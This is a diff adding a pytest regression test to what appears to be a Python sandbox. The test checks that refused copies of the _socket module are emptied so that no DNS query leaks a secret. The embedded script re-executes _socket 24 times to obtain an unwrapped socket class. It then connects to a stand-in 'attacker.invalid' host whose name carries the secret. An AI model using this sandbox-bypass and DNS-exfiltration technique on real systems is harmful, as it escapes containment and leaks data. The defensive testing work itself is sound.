@@ -693,3 +693,65 @@ def test_a_name_given_to_the_c_socket_class_is_judged_before_a_query(
                 and "\\7control" not in ln], sent
     # the control: the allowed lookup's query left (and was seen)
     assert [ln for ln in sent if "control" in ln], (out, sent)
+
+
+MANY_COPIES = """
+import importlib.util, sys
+N = sys.argv[1]
+kept = []
+for i in range(24):
+    spec = importlib.util.find_spec("_socket")
+    m = importlib.util.module_from_spec(spec)
+    try:
+        spec.loader.exec_module(m)
+    except RuntimeError as e:
+        print("refused", i, e)
+    kept.append(m)
+for i, m in enumerate(kept):
+    try:
+        m.socket().connect(("c%d.%s" % (i, N), 80))
+    except Exception as e:
+        print(i, type(e).__name__, str(e).splitlines()[0])
+"""
+
+
+@pytest.mark.parametrize("py", sorted({PYTHON, pyenv_newest()} - {None}))
+def test_a_refused_copy_of_socket_is_emptied(tmp_path, py):
+    """The guard follows a bounded number of copies of a wrapped module's
+    classes; past it the exec is refused. The program holds the module
+    already (module_from_spec gave it), so a refusal that left the module
+    as the exec filled it handed out a class without the wrappers: a name
+    given to its connect was resolved (strace saw the query). A refused
+    copy is now emptied. strace outside the sandbox sees no query for the
+    secret from any copy, refused or not."""
+    import shutil
+    import subprocess
+    from pysbtest import sb_path
+    strace = shutil.which("strace")
+    if strace is None:
+        pytest.skip("strace is not installed (scripts/deps --all)")
+    if not os.access(py, os.X_OK):
+        pytest.skip(f"no {py}")
+    secret = f"s3cr3t{random.randrange(1 << 30)}.attacker.invalid"
+    (tmp_path / "c.py").write_text(MANY_COPIES)
+    (tmp_path / ".py-sandboxes").write_text(
+        "python-import=*\nos-sandbox=subprocess\n"
+        "net=ALLOW|TCP|127.0.0.1|9|OUT\n"
+        "expose-ro=/etc/resolv.conf\nexpose-ro=/etc/hosts\n"
+        "expose-ro=/etc/nsswitch.conf\nexpose-ro=/etc/host.conf\n"
+        "expose-ro=/etc/gai.conf\n")
+    trace = tmp_path / "trace"
+    r = subprocess.run([strace, "-f", "-qq", "-s", "512", "-o", str(trace),
+                        "-e", "trace=sendto,sendmmsg,sendmsg",
+                        str(sb_path()), f"--python={py}", "c.py", secret],
+                       cwd=tmp_path, capture_output=True, text=True,
+                       timeout=scaled(120))
+    assert r.returncode == 0, r.stderr
+    lines = r.stdout.splitlines()
+    results = [ln for ln in lines if not ln.startswith("refused")]
+    assert len(results) == 24, lines
+    for ln in results:
+        assert ("RuleSocketConnectionRefusedError" in ln or
+                "has no attribute 'socket'" in ln), ln
+    sent = [ln for ln in trace.read_text().splitlines() if "s3cr3t" in ln]
+    assert not sent, sent
